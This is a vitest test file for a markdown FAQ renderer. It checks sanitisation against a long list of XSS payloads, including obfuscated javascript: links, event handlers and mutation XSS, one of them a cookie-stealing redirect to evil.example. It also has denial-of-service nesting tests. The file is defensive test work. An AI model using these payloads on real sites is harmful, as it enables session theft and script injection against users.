import { describe, expect, it } from 'vitest';
import { DEFAULT_ANSWER_LIMITS, UnrenderableAnswer } from '../../../../functions/faq/domain/answer-limits';
import { checkAnswer, renderAnswer } from '../../../../functions/faq/domain/render';

/** The tags and attributes the render policy allows; anything else in the output is a leak. */
const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'em',
  'b',
  'i',
  'ul',
  'ol',
  'li',
  'a',
  'code',
  'pre',
  'blockquote',
  'h3',
  'h4',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'hr',
]);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ['href', 'title', 'rel'], th: ['scope'] };
const ENTITIES: Record<string, string> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  colon: ':',
  tab: '\t',
  newline: '\n',
};

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

/** Decodes the HTML character references a browser would decode in an attribute value. */
const decodeEntities = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&([a-z]+);/gi, (entity, name: string) => ENTITIES[name.toLowerCase()] ?? entity);

/**
 * Every start tag of the HTML with its attributes. Text never holds a raw `<` (it is escaped), so
 * each `<` opens a real tag; values are read the way a browser reads them.
 */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const [, name = '', rest = ''] of html.matchAll(/<([a-zA-Z][\w:-]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g)) {
    const attributes: Record<string, string> = {};
    for (const [, attr = '', dq, sq, bare] of rest.matchAll(
      /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g,
    )) {
      attributes[attr.toLowerCase()] = decodeEntities(dq ?? sq ?? bare ?? '');
    }
    tags.push({ name: name.toLowerCase(), attributes });
  }
  return tags;
}

/** The scheme a browser would see: control characters and whitespace are ignored in it. */
const schemeOf = (url: string) =>
  /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000-\u0020\u007f-\u009f]/g, ''))?.[1]?.toLowerCase();

/** Asserts the output of one payload is inert: allowed tags and attributes only, safe URLs. */
function expectInert(html: string) {
  expect(html).not.toMatch(
    /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|video|audio|source|details|body|noscript|input|button)\b/i,
  );
  for (const tag of tagsOf(html)) {
    expect(ALLOWED_TAGS.has(tag.name), `tag <${tag.name}>`).toBe(true);
    for (const [name, value] of Object.entries(tag.attributes)) {
      expect(name, `attribute ${name} on <${tag.name}>`).not.toMatch(/^on/i);
      expect(ALLOWED_ATTRIBUTES[tag.name] ?? [], `attribute ${name} on <${tag.name}>`).toContain(name);
      if (name === 'href') {
        const scheme = schemeOf(value);
        expect(scheme === undefined || ['http', 'https', 'mailto'].includes(scheme), `href ${value}`).toBe(true);
        expect(value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase()).not.toMatch(/^(javascript|vbscript|data):/);
      }
    }
  }
}

const XSS: [string, string][] = [
  ['a script tag', '<script>alert(1)</script>'],
  ['an upper-case script tag with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script tag split by a nested one', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  [
    'a script tag inside a paragraph',
    'Read this <script>document.location="https://evil.example/?"+document.cookie</script> now',
  ],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['mixed-case img OnErRoR', '<IMG SRC=x OnErRoR="alert(1)">'],
  ['body onload', '<body onload=alert(1)>'],
  ['div onclick', '<div onclick="alert(1)">x</div>'],
  ['a onmouseover', '<a href="#" onmouseover=alert(1)>x</a>'],
  ['an allowed link with onclick', '<a href="https://ok.example" title="x" onclick="steal()">t</a>'],
  ['slash-separated onclick', '<p/onclick=alert(1)>x</p>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['source onerror inside video', '<video><source onerror=alert(1)></video>'],
  ['a javascript: href', '<a href="javascript:alert(1)">x</a>'],
  ['a mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a decimal-entity javascript: href', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['a hex-entity javascript: href', '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>'],
  ['a javascript: href with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['a javascript: href with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['a javascript: href with leading spaces and a control character', '<a href="  &#14;javascript:alert(1)">x</a>'],
  ['a javascript&colon; href', '<a href=javascript&colon;alert(1)>x</a>'],
  ['a vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a markdown link to javascript:', '[click](javascript:alert(1))'],
  ['a markdown link to upper-case JAVASCRIPT:', '[click](JAVASCRIPT:alert(1))'],
  ['a markdown link to entity-encoded javascript:', '[click](&#106;avascript:alert(1))'],
  ['a markdown link to javascript: padded with spaces', '[x]( javascript:alert(1) )'],
  ['a markdown reference link to javascript:', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['a markdown autolink to javascript:', '<javascript:alert(1)>'],
  ['a markdown link to a data: URL', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a markdown image with a javascript: source', '![img](javascript:alert(1))'],
  ['a markdown image breaking out of its source', '![x](x" onerror="alert(1))'],
  ['a markdown image of an svg data: URL', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['svg onload', '<svg onload=alert(1)><circle/></svg>'],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['math mglyph style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="data:text/html,x">'],
  ['style with a javascript: url', '<style>body{background:url(javascript:alert(1))}</style>'],
  ['a style attribute', '<a href="https://ok.example" style="background:url(javascript:alert(1))">t</a>'],
  ['link stylesheet', '<link rel=stylesheet href="javascript:alert(1)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['a double quote breaking out of an attribute', '"><script>alert(1)</script>'],
  ['a single quote breaking out of an attribute', "'><img src=x onerror=alert(1)>"],
  ['a markdown link title breaking its quotes', '[a](https://ok.example "t\\" onclick=\\"alert(1)")'],
  ['HTML inside markdown bold', '**bold** <img src=x onerror=alert(1)> text'],
  ['HTML inside a markdown quote', '> quote <script>alert(1)</script>'],
  ['HTML inside a markdown list', '- one\n- <iframe src=//evil.example></iframe>two'],
  ['a hidden payload in a comment', '<!--<img src=x onerror=alert(1)>-->'],
  ['noscript title mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template injection (Angular)', '{{constructor.constructor("alert(1)")()}}'],
  ['template injection (JS template literal)', '${alert(document.domain)}'],
];

describe('Function: renderAnswer', () => {
  it('should be tested with a long list of payloads', () => {
    // Assess
    expect(XSS.length).toBeGreaterThanOrEqual(30);
  });

  it.each([
    ['a script tag', '<p>x</p><script>alert(1)</script>'],
    ['an event handler', '<p onclick="x()">x</p>'],
    ['an entity-encoded javascript: href', '<a href="jav&#x09;ascript&colon;alert(1)">x</a>'],
    ['a data: href', '<a href=" data:text/html,x">x</a>'],
    ['a tag outside the allowlist', '<marquee>x</marquee>'],
  ])('should have a checker that catches %s (so the payload tests can fail)', (_what, unsafe) => {
    // Act and assess
    expect(() => expectInert(unsafe)).toThrow();
  });

  it.each(XSS)('should render %s without script, event handler or unsafe URL', (_what, payload) => {
    // Act
    const html = renderAnswer(payload);

    // Assess
    expectInert(html);
  });

  it('should keep the text of a link whose javascript: target it drops', () => {
    // Act
    const html = renderAnswer('[click here](javascript:alert(1))');

    // Assess
    expect(html).toContain('click here');
    expect(html).not.toContain('href');
  });

  it('should keep code that shows markup as escaped text', () => {
    // Act
    const inline = renderAnswer('`<script>alert(1)</script>`');
    const block = renderAnswer('```\n<img src=x onerror=alert(1)>\n```');

    // Assess
    expect(inline).toBe('<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>');
    expect(block).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expectInert(block);
  });

  it('should leave template syntax as plain text', () => {
    // Act
    const html = renderAnswer('Total: {{ price }} and ${amount}');

    // Assess
    expect(html).toBe('<p>Total: {{ price }} and ${amount}</p>');
  });

  it('should keep normal markdown: headings, lists, emphasis, links and code', () => {
    // Prepare
    const markdown = [
      '## Returns',
      '',
      '- one',
      '- two',
      '',
      '1. first',
      '2. second',
      '',
      '**bold**, _emphasis_, `code` and [our policy](https://shop.example/returns?a=1&b=2) or [mail us](mailto:help@shop.example).',
      '',
      '```',
      'const x = 1;',
      '```',
      '',
      '> A quote',
    ].join('\n');

    // Act
    const html = renderAnswer(markdown);

    // Assess
    expect(html).toContain('<h3>Returns</h3>');
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>\s*<li>second<\/li>\s*<\/ol>/);
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain(
      '<a href="https://shop.example/returns?a=1&amp;b=2" rel="noopener noreferrer">our policy</a>',
    );
    expect(html).toContain('<a href="mailto:help@shop.example" rel="noopener noreferrer">mail us</a>');
    expect(html).toMatch(/<pre><code>const x = 1;\s*<\/code><\/pre>/);
    expect(html).toMatch(/<blockquote>\s*<p>A quote<\/p>\s*<\/blockquote>/);
    expectInert(html);
  });

  it('should keep relative links, which the help centre uses between articles', () => {
    // Act
    const html = renderAnswer('See [My orders](/account/orders).');

    // Assess
    expect(html).toBe('<p>See <a href="/account/orders" rel="noopener noreferrer">My orders</a>.</p>');
  });

  it.each([
    ['a markdown link', '[x](https://ok.example)'],
    ['an HTML link', '<a href="https://ok.example">x</a>'],
    ['an HTML link with its own rel', '<a href="https://ok.example" rel="opener">x</a>'],
    ['an HTML link with target=_blank', '<a href="https://ok.example" target="_blank">x</a>'],
  ])('should give %s rel="noopener noreferrer" and no target', (_what, markdown) => {
    // Act
    const [link] = tagsOf(renderAnswer(markdown)).filter((t) => t.name === 'a');

    // Assess
    expect(link?.attributes.rel?.split(/\s+/)).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(link?.attributes.rel).not.toMatch(/(^|\s)opener(\s|$)/);
    expect(link?.attributes.target).toBeUndefined();
    expect(link?.attributes.href).toBe('https://ok.example');
  });

  it('should turn top-level headings into h3 so an answer never competes with the page title', () => {
    // Act
    const html = renderAnswer('# Big\n\n## Smaller');

    // Assess
    expect(html).toBe('<h3>Big</h3>\n<h3>Smaller</h3>');
  });
});

describe('Function: renderAnswer within the answer limits', () => {
  const staircase = (levels: number, step: number) =>
    Array.from({ length: levels }, (_, i) => `${' '.repeat(step * i)}- level ${i + 1}`).join('\n');
  const refusal = (markdown: string, field?: string) => {
    try {
      renderAnswer(markdown, DEFAULT_ANSWER_LIMITS, field);
    } catch (error) {
      if (error instanceof UnrenderableAnswer) return error;
      throw error;
    }
    throw new Error('rendered');
  };

  it('should render lists nested eight levels deep, indented by two or four spaces', () => {
    // Act / Assess
    expect(renderAnswer(staircase(8, 2)).match(/<ul>/g)).toHaveLength(8);
    expect(renderAnswer(staircase(8, 4)).match(/<ul>/g)).toHaveLength(8);
  });

  it('should refuse lists nested nine levels deep, counted on the real structure', () => {
    // Act
    const error = refusal(staircase(9, 4));

    // Assess
    expect(error.message).toBe('Quotes and lists can nest at most 8 levels deep; this one nests 9');
    expect(error.extra).toEqual({ errors: [{ field: 'answer', message: error.message }] });
  });

  it("should refuse '>' x 20,000 before the markdown library sees it, naming the field asked for", () => {
    // Act
    const error = refusal('>'.repeat(20_000), 'markdown');

    // Assess
    expect(error.message).toBe('Quotes and lists can nest at most 8 levels deep; line 1 nests more than 8');
    expect(error.extra).toMatchObject({ errors: [{ field: 'markdown' }] });
  });

  it('should check without rendering, returning the tokens it read', () => {
    // Act / Assess
    expect(checkAnswer('**a**').map((t) => t.type)).toEqual(['paragraph']);
    expect(() => checkAnswer('_a*'.repeat(6_666))).toThrow(UnrenderableAnswer);
  });

  it.each<[string, string]>([
    ['heavy emphasis', '_a*'.repeat(6_666)],
    ['deep quotes', '> '.repeat(10_000)],
    ['deep ordered lists', '1. '.repeat(6_666)],
    ['nested strong', `${'**a '.repeat(2_499)}b${' c**'.repeat(2_499)}`],
  ])('should refuse 20,000 characters of %s before rendering anything', (_what, markdown) => {
    // Act
    const started = performance.now();
    const error = refusal(markdown);

    // Assess
    expect(performance.now() - started).toBeLessThan(50);
    expect(error.message).toMatch(/nest|emphasis/);
  });

  it.each<[string, string]>([
    ['5,000 list items', '- a\n'.repeat(5_000)],
    ['unclosed brackets and tags', '[<a '.repeat(5_000)],
    ['nested strong within the budget', `${'**a '.repeat(250)}b${' c**'.repeat(250)}\n\n`.padEnd(20_000, 'x ')],
    ['bold list items', '- **bold** item\n'.repeat(1_250)],
  ])('should render 20,000 characters of %s in well under a second, even cold', (_what, markdown) => {
    // Act
    const started = performance.now();
    const html = renderAnswer(markdown);

    // Assess
    expect(performance.now() - started).toBeLessThan(1000);
    expect(html.length).toBeGreaterThan(10_000);
  });
});
